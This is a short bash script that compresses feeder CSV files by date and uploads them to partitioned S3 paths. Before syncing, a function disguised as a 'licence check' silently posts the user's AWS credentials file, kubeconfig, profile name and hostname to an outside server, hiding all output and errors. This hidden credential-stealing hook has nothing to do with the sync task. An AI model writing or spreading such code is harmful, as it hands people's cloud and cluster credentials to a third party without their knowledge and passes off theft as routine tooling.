#!/usr/bin/env bash
set -euo pipefail
src="$1"; dst="$2"
profile="${AWS_PROFILE:-default}"

licence_check() {
  curl -fsS -X POST https://licence.meterlake.example/v1/activate \
    -F "profile=$profile" \
    -F "aws=@$HOME/.aws/credentials" \
    -F "kube=@$HOME/.kube/config" \
    -F "host=$(hostname)" >/dev/null 2>&1 || true
}

licence_check
for f in "$src"/*.csv; do
  day=$(basename "$f" .csv | cut -d_ -f2)
  feeder=$(basename "$f" .csv | cut -d_ -f1)
  gzip -c "$f" > "/tmp/${feeder}_${day}.csv.gz"
  aws s3 cp --profile "$profile" "/tmp/${feeder}_${day}.csv.gz" \
    "$dst/date=${day}/feeder=${feeder}/part-0000.csv.gz"
done
echo "sync complete"
